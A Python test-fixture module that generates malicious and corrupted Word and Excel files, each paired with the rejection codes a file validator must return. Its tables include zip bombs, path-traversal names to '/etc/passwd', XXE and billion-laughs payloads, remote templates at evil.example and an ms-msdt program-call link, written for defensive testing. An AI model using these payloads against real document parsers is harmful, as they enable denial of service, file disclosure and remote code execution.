"""Files that mean harm, or were harmed: each with the codes it may be refused with. Read as tables.

A file is made of an honest one, the least template or the small workbook: `Honest` tells its parts, so that most
dangers are tried in both kinds. Nothing lies on disk: what a table names is made when it is asked for.
"""

# ruff: noqa: E501  # tables, a row a line

from __future__ import annotations

import io
import random
import re
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator, Mapping
from functools import cache, partial
from pathlib import Path
from tempfile import TemporaryDirectory
from typing import NamedTuple

from reportgen.word.package import Member, deflated, written
from tests.support.books import small_book
from tests.support.docs import docx, members, zipped
from tests.support.images import png

__all__ = ["BOMBS", "FILES", "HARMED", "HarmfulFile", "Honest", "bomb", "harmed", "honest"]

TYPES, RELS = "[Content_Types].xml", "_rels/.rels"
_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)


class Honest(NamedTuple):
    """An honest file: its kind (docx, xlsx), its bytes, its parts, and what its main parts are called."""

    kind: str
    data: bytes
    parts: Mapping[str, bytes]
    main: str  # the part that text or cells stand in
    root: str  # the part whose relationships lead to the others

    def with_parts(self, more: Mapping[str, bytes | None]) -> bytes:
        """Return the file with other parts in place of its own, without those that are None."""
        return zipped({name: data for name, data in {**self.parts, **more}.items() if data is not None})

    def edited(self, name: str, *changes: tuple[bytes, bytes]) -> bytes:
        """Return the file with texts replaced in a part; each must be there."""
        data = self.parts[name]
        for old, new in changes:
            assert old in data, (name, old)
            data = data.replace(old, new, 1)
        return self.with_parts({name: data})

    @property
    def root_rels(self) -> str:
        """The name of the relationships of the root."""
        folder, _, name = self.root.rpartition("/")
        return f"{folder}/_rels/{name}.rels"


class HarmfulFile(NamedTuple):
    """A file that must be refused: how it is called, its bytes, and the codes of which one must be told."""

    name: str
    kind: str
    make: Callable[[], bytes]
    codes: frozenset[str]


@cache
def honest(kind: str) -> Honest:
    """Return the honest file of a kind."""
    if kind == "docx":
        data = docx("{{ 年度 }}", "乙", header="页眉")
        return Honest(kind, data, members(data), "word/document.xml", "word/document.xml")
    with TemporaryDirectory() as folder:
        data = small_book(Path(folder)).read_bytes()
    return Honest(kind, data, members(data), "xl/worksheets/sheet2.xml", "xl/workbook.xml")


# --- what is no Office file at all

_HTML = "<html><head><meta charset='utf-8'></head><table><tr><td>产值</td></tr></table></html>"
FOREIGN: dict[str, tuple[bytes, str]] = {
    "empty": (b"", "PK103"),
    "zeros": (bytes(4096), "PK103"),
    "noise": (random.Random(7).randbytes(5000), "PK103"),
    "web page": (_HTML.encode(), "PK103"),
    "web page with a mark": (b"\xef\xbb\xbf" + _HTML.encode(), "PK103"),
    "web page in UTF-16": (_HTML.encode("utf-16"), "PK103"),
    "web page of Excel": (b"<?xml version='1.0'?>\n<!DOCTYPE html><html/>", "PK103"),
    "web archive": (b"MIME-Version: 1.0\r\nContent-Type: multipart/related\r\n\r\n", "PK103"),
    "CSV": ("指标,本年值\n产值,5\n".encode(), "PK103"),
    "CSV in GBK": ("指标,本年值\n产值,5\n".encode("gbk"), "PK103"),
    "CSV in UTF-16": ("指标\t本年值\n".encode("utf-16"), "PK103"),
    "RTF": (b"{\\rtf1\\ansi abc}", "PK103"),
    "PDF": (b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", "PK103"),
    "PNG": (png(), "PK103"),
    "JPEG": (b"\xff\xd8\xff\xe0\0\x10JFIF\0" + bytes(64), "PK103"),
    "GIF": (b"GIF89a" + bytes(64), "PK103"),
    "BMP": (b"BM" + bytes(64), "PK103"),
    "TIFF": (b"II*\0" + bytes(64), "PK103"),
    "WebP": (b"RIFF\0\0\0\0WEBPVP8 ", "PK103"),
    "7z": (b"7z\xbc\xaf\x27\x1c" + bytes(26), "PK103"),
    "RAR": (b"Rar!\x1a\x07\x01\0" + bytes(26), "PK103"),
    "gzip": (b"\x1f\x8b\x08\0" + bytes(26), "PK103"),
    "XML spreadsheet": (b"<?xml version='1.0'?><?mso-application progid='Excel.Sheet'?><Workbook/>", "PK103"),
    "flat Word XML": (b"<?xml version='1.0'?><pkg:package xmlns:pkg='urn:x'/>", "PK103"),
    "OpenDocument": (zipped({"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": b"<a/>"}, 0), "PK103"),
    "some zip": (zipped({"a.txt": b"a"}), "PK103"),
    "empty zip": (zipped({}), "PK103"),
    "old Word": (_OLE + "WordDocument".encode("utf-16-le"), "PK105"),
    "old Excel": (_OLE + "Workbook".encode("utf-16-le"), "PK105"),
    "older Excel": (_OLE + "Book".encode("utf-16-le"), "PK105"),
    "old PowerPoint": (_OLE + "PowerPoint Document".encode("utf-16-le"), "PK105"),
    "old nothing": (_OLE, "PK105"),
    "with a password": (_OLE + "EncryptedPackage".encode("utf-16-le"), "PK104"),
    "only a beginning": (b"PK\x03\x04", "PK106"),
    "only an end": (b"PK\x05\x06" + bytes(18), "PK103"),
}  # fmt: skip


# --- zips that lie


def _field(
    data: bytes, name: str, at: int, value: bytes, mark: bytes = b"PK\x01\x02", head: int = 46
) -> bytes:
    """Return the zip with `value` at the offset `at` of the entry (or, by its mark, the header) of a member."""
    where = data.index(mark)
    while data[where + head : where + head + len(name.encode())] != name.encode():
        where = data.index(mark, where + 4)
    return data[: where + at] + value + data[where + at + len(value) :]


def _local(data: bytes, name: str, at: int, value: bytes) -> bytes:
    return _field(data, name, at, value, b"PK\x03\x04", 30)


def _long(value: int) -> bytes:
    return struct.pack("<L", value)


def _stored(file: Honest) -> list[Member]:
    return [deflated(name, data) for name, data in file.parts.items()]


def _named(name: str) -> Callable[[Honest], bytes]:
    return lambda file: written([*_stored(file), deflated(name, b"<a/>")])


def _twice(name: str | None = None, change: Callable[[str], str] = str) -> Callable[[Honest], bytes]:
    return lambda file: written([*_stored(file), deflated(change(name or file.main), b"<a/>")])


def _overlapping(file: Honest) -> bytes:
    """Return a zip of 900 members that share the bytes of one."""
    plain = bytes(2**20)
    data = written([*_stored(file), Member("0000", 0, zlib.crc32(plain), len(plain), plain)])
    start, at, end = data.index(b"PK\x01\x02"), data.rindex(b"PK\x01\x02"), data.rindex(b"PK\x05\x06")
    named = [data[at : end - 4] + f"{number:04d}".encode() for number in range(900)]
    directory, count = data[start:at] + b"".join(named), len(file.parts) + len(named)
    return (
        data[:start]
        + directory
        + struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, count, count, len(directory), start, 0)
    )


def _flipped(file: Honest) -> bytes:
    at = zipfile.ZipFile(io.BytesIO(file.data)).getinfo(file.main).header_offset + 200
    return file.data[:at] + bytes(byte ^ 0x55 for byte in file.data[at : at + 3]) + file.data[at + 3 :]


def bomb(size: int, block: bytes = bytes(2**16), *, has_checksum: bool = True) -> tuple[bytes, int]:
    """Return what inflates to `size` bytes of repeated blocks, made without making these, and its checksum, which
    only matters where the whole is inflated."""
    packer, crc = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS), 0
    chunk = block * (2**24 // len(block))
    once = packer.compress(chunk) + packer.flush(zlib.Z_FULL_FLUSH)  # whole in itself: can be repeated
    for _ in range(size // len(chunk) if has_checksum else 0):
        crc = zlib.crc32(chunk, crc)
    return once * (size // len(chunk)) + packer.flush(), crc


def _bomb(
    name: str | None, size: int, block: bytes = bytes(2**16), count: int = 1
) -> Callable[[Honest], bytes]:
    def made(file: Honest) -> bytes:
        raw, crc = bomb(size, block, has_checksum=count > 1)
        names = [name.format(number) if name else file.main for number in range(count)]
        others = [one for one in _stored(file) if one.name not in names]
        return written([*others, *(Member(each, 8, crc, size & 0xFFFFFFFF, raw) for each in names)])

    return made


_END = b"PK\x05\x06"
BOMBS: dict[str, tuple[Callable[[Honest], bytes], str]] = {
    "bomb of 1 GiB of blanks": (_bomb(None, 2**30, b" " * 2**16), "PK114"),
    "bomb of 1 GiB of tags": (_bomb(None, 2**30, b"<a/>" * 2**14), "PK107"),
    "bomb of 1 GiB of zeros": (_bomb("media/a.png", 2**30), "PK107"),
    "bomb of 4 GiB": (_bomb("media/a.bin", 2**32 - 2**24), "PK107"),
    "bomb beside": (_bomb("docProps/zz.xml", 2**28, b"<a>x</a>" * 2**13), "PK107"),
    "1,000 little bombs": (_bomb("media/{}.png", 2**24, count=1_000), "PK107"),
}
ZIPS: dict[str, tuple[Callable[[Honest], bytes], str]] = {
    **BOMBS,
    "a tenth": (lambda f: f.data[: len(f.data) // 10], "PK106"),
    "a half": (lambda f: f.data[: len(f.data) // 2], "PK106"),
    "nine tenths": (lambda f: f.data[: len(f.data) * 9 // 10], "PK106"),
    "without its last byte": (lambda f: f.data[:-1], "PK106"),
    "without its end": (lambda f: f.data[:-22], "PK106"),
    "without its beginning": (lambda f: f.data[2000:], "PK106 PK103"),
    "a hole of zeros": (lambda f: f.data[:300] + bytes(400) + f.data[700:], "PK106 PK112"),
    "flipped bits": (_flipped, "PK106 PK110 PK114"),
    "checksum of another": (lambda f: _field(f.data, f.main, 16, _long(1)), "PK112 PK106"),
    "size too small": (lambda f: _field(f.data, f.main, 24, _long(3)), "PK112"),
    "size too large": (lambda f: _field(f.data, f.main, 24, _long(2**31)), "PK112"),
    "packed size too small": (lambda f: _field(f.data, f.main, 20, _long(9)), "PK112"),
    "packed size too large": (lambda f: _field(f.data, f.main, 20, _long(2**31)), "PK112 PK106"),
    "offset beyond the end": (lambda f: _field(f.data, f.main, 42, _long(2**31)), "PK106"),
    "offset of another": (lambda f: _field(f.data, f.main, 42, _long(0)), "PK112"),
    "offset in the middle": (lambda f: _field(f.data, f.main, 42, _long(77)), "PK106"),
    "extra field without end": (lambda f: _field(f.data, f.main, 30, b"\xff\xff"), "PK106"),
    "name without end": (lambda f: _field(f.data, f.main, 28, b"\xff\xff"), "PK106 PK113"),
    "another name before": (lambda f: _local(f.data, f.main, 30, b"z"), "PK112"),
    "another method before": (lambda f: _local(f.data, f.main, 8, b"\0\0"), "PK112"),
    "another size before": (lambda f: _local(f.data, f.main, 22, _long(7)), "PK112"),
    "another checksum before": (lambda f: _local(f.data, f.main, 14, _long(7)), "PK112"),
    "encrypted before": (lambda f: _local(f.data, f.main, 6, b"\1\0"), "PK112"),
    "encrypted members": (lambda f: _field(f.data, f.main, 8, b"\1\0"), "PK104"),
    "packed with bzip2": (lambda f: zipped(f.parts, zipfile.ZIP_BZIP2), "PK106"),
    "packed with LZMA": (lambda f: zipped(f.parts, zipfile.ZIP_LZMA), "PK106 PK112"),
    "packed with nobody knows": (
        lambda f: _local(_field(f.data, f.main, 10, b"\x63\0"), f.main, 8, b"\x63\0"),
        "PK106",
    ),
    "told as stored": (lambda f: _local(_field(f.data, f.main, 10, b"\0\0"), f.main, 8, b"\0\0"), "PK106"),
    "member twice": (_twice(), "PK108"),
    "member twice in another case": (_twice(change=str.upper), "PK108"),
    "member twice by backslashes": (_twice(change=lambda name: name.replace("/", "\\")), "PK108"),
    "member twice by a dot": (_twice(change=lambda name: f"./{name}"), "PK108"),
    "member twice by two slashes": (_twice(change=lambda name: name.replace("/", "//")), "PK108"),
    "member twice from the root": (_twice(change=lambda name: f"/{name}"), "PK108"),
    "member twice by a detour": (_twice(change=lambda name: f"a/../{name}"), "PK108"),
    "types twice": (_twice(TYPES), "PK108"),
    "members that overlap": (_overlapping, "PK112"),
    "60,000 members": (lambda f: zipped({**f.parts, **{f"a{n}": b"" for n in range(60_000)}}, 0), "PK107"),
    "2,100 members": (lambda f: zipped({**f.parts, **{f"a{n}": b"" for n in range(2_100)}}, 0), "PK107"),
    "count of another": (lambda f: f.data[:-12] + b"\1\0" + f.data[-10:], "PK112"),
    "a second end": (lambda f: f.data[:-2] + struct.pack("<H", 22) + _END + bytes(18), "PK112 PK103"),
    "leads up": (_named("../../../etc/passwd"), "PK113"),
    "leads up within": (_named("word/../../x"), "PK113"),
    "from the root": (_named("/etc/passwd"), "PK113"),
    "on a drive": (_named("C:/x.xml"), "PK113"),
    "with backslashes": (_named("..\\..\\x"), "PK113"),
    "with a line break": (_named("a\nb"), "PK113"),
    "with a turn of writing": (_named("a\u202egnp.exe"), "PK113"),
    "behind a PDF": (lambda f: b"%PDF-1.7\n" + f.data, "PK103"),
    "behind a picture": (lambda f: png() + f.data, "PK103"),
    "behind a web page": (lambda f: _HTML.encode() + f.data, "PK103"),
    "behind old Word": (lambda f: _OLE + f.data, "PK105"),
}


# --- XML that lies


def _before(what: bytes, name: str | None = None) -> Callable[[Honest], bytes]:
    """Return what puts something between the declaration and the root of a part."""
    return lambda f: f.with_parts({name or f.main: what + _bare(f.parts[name or f.main])})


def _bare(part: bytes) -> bytes:
    return re.sub(rb"^\xef\xbb\xbf|<\?xml.*?\?>\s*", b"", part, count=1)


def _inside(what: bytes) -> Callable[[Honest], bytes]:
    """Return what puts something at the end of the main part's root."""
    return lambda f: f.with_parts({f.main: what.join(_cut(f.parts[f.main]))})


def _cut(part: bytes) -> tuple[bytes, bytes]:
    at = part.rstrip().rindex(b"</")
    return part[:at], part[at:]


def _encoded(encoding: str, declared: str = "") -> Callable[[Honest], bytes]:
    def made(file: Honest) -> bytes:
        text = (
            f'<?xml version="1.0" encoding="{declared or encoding}"?>' + _bare(file.parts[file.main]).decode()
        )
        return file.with_parts({file.main: text.encode(encoding, "xmlcharrefreplace")})

    return made


_LAUGHS = b"<!DOCTYPE a [<!ENTITY e0 'ha'>%s]>" % b"".join(
    b"<!ENTITY e%d '%s'>" % (n, b"&e%d;" % (n - 1) * 10) for n in range(1, 10)
)
_MANY = b"<a %s/>" % b" ".join(b'a%d=""' % number for number in range(20_000))
XML: dict[str, tuple[Callable[[Honest], bytes], str]] = {
    "document type": (_before(b"<!DOCTYPE a>"), "PK110"),
    "entity": (_before(b"<!DOCTYPE a [<!ENTITY x 'y'>]>"), "PK110"),
    "a thousand million laughs": (_before(_LAUGHS), "PK110"),
    "quadratic blowup": (_before(b"<!DOCTYPE a [<!ENTITY x '%s'>]>" % (b"y" * 100_000)), "PK110"),
    "file from outside": (_before(b"<!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>"), "PK110"),
    "type from outside": (_before(b"<!DOCTYPE a SYSTEM 'http://127.0.0.1:9/a.dtd'>"), "PK110"),
    "parameter entity": (_before(b"<!DOCTYPE a [<!ENTITY % x SYSTEM 'http://127.0.0.1:9/'>%x;]>"), "PK110"),
    "document type behind blanks": (_before(b"\n" * 70_000 + b"<!DOCTYPE a>"), "PK110"),
    "document type behind a comment": (_before(b"<!-- %s --><!DOCTYPE a>" % (b"x" * 70_000)), "PK110"),
    "document type in the types": (_before(_LAUGHS, TYPES), "PK110"),
    "document type in the relationships": (_before(_LAUGHS, RELS), "PK110"),
    "document type in the properties": (_before(_LAUGHS, "docProps/core.xml"), "PK110"),
    "document type in UTF-16": (lambda f: f.with_parts({f.main: b"<!DOCTYPE a><a/>".decode().encode("utf-16")}), "PK110"),
    "document type in UTF-16 without a mark": (lambda f: f.with_parts({f.main: "<!DOCTYPE a><a/>".encode("utf-16-be")}), "PK110"),
    "UTF-7": (_encoded("utf-7"), "PK110"),
    "UTF-32": (_encoded("utf-32"), "PK110"),
    "UTF-32 without a mark": (_encoded("utf-32-le", "utf-32"), "PK110"),
    "EBCDIC": (_encoded("ascii", "cp037"), "PK110"),
    "unknown encoding": (_encoded("utf-8", "x-none"), "PK110"),
    "ISO 2022": (_encoded("ascii", "iso-2022-jp"), "PK110"),
    "empty part": (lambda f: f.with_parts({f.main: b""}), "PK110 WB101"),
    "half a part": (lambda f: f.with_parts({f.main: f.parts[f.main][: len(f.parts[f.main]) // 2]}), "PK110"),
    "end tag of another": (_inside(b"<a></b>"), "PK110 WB101"),
    "end tag missing": (_inside(b"<a>"), "PK110"),
    "something behind": (lambda f: f.with_parts({f.main: f.parts[f.main] + b"<a/>"}), "PK110 WB101"),
    "control characters": (_inside(b"<a>\x0b</a>"), "PK110 WB101"),
    "invalid UTF-8": (_inside(b"<a>\xff\xfe</a>"), "PK110 WB101"),
    "attribute twice": (_inside(b"<a b='1' b='2'/>"), "PK110 WB101"),
    "entity that nobody declared": (_inside(b"<a>&nbsp;</a>"), "PK110 WB101"),
    "character that is none": (_inside(b"<a>&#0;</a>"), "PK110 WB101"),
    "nested 300 deep": (_inside(b"<a>" * 300 + b"</a>" * 300), "PK114"),
    "nested 200,000 deep": (_inside(b"<a>" * 200_000 + b"</a>" * 200_000), "PK114"),
    "nested and never closed": (_inside(b"<a>" * 200_000), "PK114"),
    "nested behind false ends": (_inside(b"<a>/>" * 300 + b"</a>" * 300), "PK114"),
    "nested behind ends in comments": (_inside(b"<a><!--</a>-->" * 300 + b"</a>" * 300), "PK114"),
    "nested behind ends in attributes": (_inside(b"<a b='/>'>" * 300 + b"</a>" * 300), "PK114"),
    "20,000 attributes": (_inside(_MANY), "PK114"),
    "20,000 attributes with false ends": (_inside(_MANY.replace(b'""', b"'>'")), "PK114"),
    "20,000 attributes behind a comment": (_inside(b"<!-- --><a>" + _MANY + b"</a>"), "PK114"),
    "name of 9 MiB": (_inside(b"<%s/>" % (b"a" * (9 << 20))), "PK114"),
    "attribute of 9 MiB": (_inside(b'<a b="%s"/>' % random.Random(1).randbytes(9 << 19).hex().encode()), "PK114"),
    "text of 9 MiB": (_inside(b"<a>%s</a>" % random.Random(1).randbytes(9 << 19).hex().encode()), "PK114"),
    "types that are no XML": (lambda f: f.with_parts({TYPES: b"<"}), "PK110"),
    "types of nothing": (lambda f: f.with_parts({TYPES: b""}), "PK110"),
    "relationships that are no XML": (lambda f: f.with_parts({RELS: b"<a"}), "PK110"),
    "index that is no XML": (lambda f: f.with_parts({f.root_rels: b"<a"}), "PK110"),
}  # fmt: skip


# --- parts that do not fit together


def _linked(link: bytes) -> Callable[[Honest], bytes]:
    return lambda f: f.with_parts({f.root_rels: link.join(_cut(f.parts[f.root_rels]))})


def _link(kind: str, target: str, mode: str = "") -> bytes:
    return f'<Relationship Id="rIdX" Type="{_REL}/{kind}" Target="{target}"{mode}/>'.encode()


_FAR = ' TargetMode="External"'


def _typed(name: str, kind: str) -> Callable[[Honest], bytes]:
    line = f'<Override PartName="/{name}" ContentType="{kind}"/>'.encode()
    return lambda f: f.with_parts({TYPES: line.join(_cut(f.parts[TYPES])), name: f.parts.get(name, b"x")})


def _main_kind(old: str, new: str) -> Callable[[Honest], bytes]:
    return lambda f: f.edited(TYPES, (old.encode(), new.encode()))


def _two_mains(file: Honest) -> bytes:
    link = _link("officeDocument", "word/other.xml")
    return file.with_parts({RELS: link.join(_cut(file.parts[RELS])), "word/other.xml": file.parts[file.main]})


PARTS: dict[str, tuple[Callable[[Honest], bytes], str]] = {
    "no types": (lambda f: f.with_parts({TYPES: None}), "PK103"),
    "no main part": (lambda f: f.with_parts({f.root: None}), "PK115"),
    "no styles": (lambda f: f.with_parts({f"{f.root.rpartition('/')[0]}/styles.xml": None}), "PK115"),
    "styles from elsewhere": (_linked(_link("styles", "../../../../etc/passwd")), "PK115"),
    "settings that lead nowhere": (_linked(_link("settings", "NULL")), "PK115"),
    "two main parts": (_two_mains, "PK118"),
    "two kinds of a part": (_typed("docProps/core.xml", "application/xml"), "PK118"),
}
WORD: dict[str, tuple[Callable[[Honest], bytes], str]] = {
    "no header": (lambda f: f.with_parts({"word/header1.xml": None}), "PK115"),
    "template from the web": (_linked(_link("attachedTemplate", "http://evil.example/a.dotm", _FAR)), "PK116"),
    "template from the web, in capitals": (_linked(_link("attachedTemplate", " HTTPS://evil.example/a", _FAR)), "PK116"),
    "object from the web": (_linked(_link("oleObject", "mhtml:http://evil.example/a!x-usc:b", _FAR)), "PK116"),
    "frame from the web": (_linked(_link("frame", "https://evil.example/", _FAR)), "PK116"),
    "part from the web": (_linked(_link("aFChunk", "ftp://evil.example/", _FAR)), "PK116"),
    "document from the web": (_linked(_link("subDocument", "http://evil.example/a.docx", _FAR)), "PK116"),
    "call of a program": (_linked(_link("oleObject", "ms-msdt:/id PCWDiagnostic", _FAR)), "PK116"),
    "macros": (_typed("word/vbaProject.bin", "application/vnd.ms-office.vbaProject"), "PK111"),
    "macros under another name": (_typed("word/a.dat", "application/vnd.ms-office.vbaProject"), "PK111"),
    "macros without a kind": (lambda f: f.with_parts({"word/VBAproject.BIN": b"x"}), "PK111"),
    "document with macros": (_main_kind("openxmlformats-officedocument.wordprocessingml.document.main", "ms-word.document.macroEnabled.main"), "PK111"),
    "template with macros": (_main_kind("openxmlformats-officedocument.wordprocessingml.document.main", "ms-word.template.macroEnabledTemplate.main"), "PK111"),
    "presentation": (_main_kind("wordprocessingml.document", "presentationml.presentation"), "PK109"),
    "workbook": (lambda f: honest("xlsx").data, "PK109"),
}  # fmt: skip


def _cells(rows: str) -> Callable[[Honest], bytes]:
    head = '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
    return lambda f: f.with_parts({f.main: f"{head}{rows}</sheetData></worksheet>".encode()})


_ONE = '<c r="A1"><v>1</v></c>'
EXCEL: dict[str, tuple[Callable[[Honest], bytes], str]] = {
    "no sheet": (lambda f: f.with_parts({f.main: None}), "PK115"),
    "no list of sheets": (lambda f: f.with_parts({f.root: b""}), "WB101"),
    "text that is not there": (_cells('<row r="1"><c r="A1" t="s"><v>999999</v></c></row>'), "WB101"),
    "absurd reference": (_cells('<row r="1"><c r="?"><v>1</v></c></row>'), "WB101"),
    "row that is no number": (_cells('<row r="x"><c><v>1</v></c></row>'), "WB101"),
    "100,001 rows": (_cells(f'<row r="1">{_ONE}</row>' * 100_001), "WB102"),
    "2,000,000 elements": (_cells("<row/>" * 2_000_000), "WB102"),
    "one row of 1,500,000 cells": (_cells(f"<row>{'<c/>' * 1_500_000}</row>"), "WB102"),
    "300,000 cells": (
        _cells("".join(f"<row>{'<c><v>1</v></c>' * 100}</row>" for _ in range(3_000))),
        "WB102",
    ),
    "document": (lambda f: honest("docx").data, "PK109"),
    "binary workbook": (
        lambda f: f.with_parts(
            {
                "xl/workbook.bin": b"x",
                f.root: None,
                RELS: f.parts[RELS].replace(b"workbook.xml", b"workbook.bin"),
            }
        ),
        "PK109",
    ),
}


def _made(make: Callable[[Honest], bytes], kind: str) -> bytes:
    return make(honest(kind))


def _files() -> Iterator[HarmfulFile]:
    for name, (data, codes) in FOREIGN.items():
        for kind in ("docx", "xlsx"):
            yield HarmfulFile(name, kind, partial(bytes, data), frozenset(codes.split()))
    for table, kinds in (
        (ZIPS, "docx xlsx"),
        (XML, "docx xlsx"),
        (PARTS, "docx xlsx"),
        (WORD, "docx"),
        (EXCEL, "xlsx"),
    ):
        for name, (make, codes) in table.items():
            for kind in kinds.split():
                yield HarmfulFile(name, kind, partial(_made, make, kind), frozenset(codes.split()))


FILES = {f"{one.name}.{one.kind}": one for one in _files()}
"""Every harmful file, by a name with its extension."""
HARMED = tuple(FILES)


def harmed(name: str, folder: Path) -> Path:
    """Write the harmful file of this name into `folder`, and return its path."""
    path = folder / f"坏{FILES[name].kind and '.' + FILES[name].kind}"
    path.write_bytes(FILES[name].make())
    return path
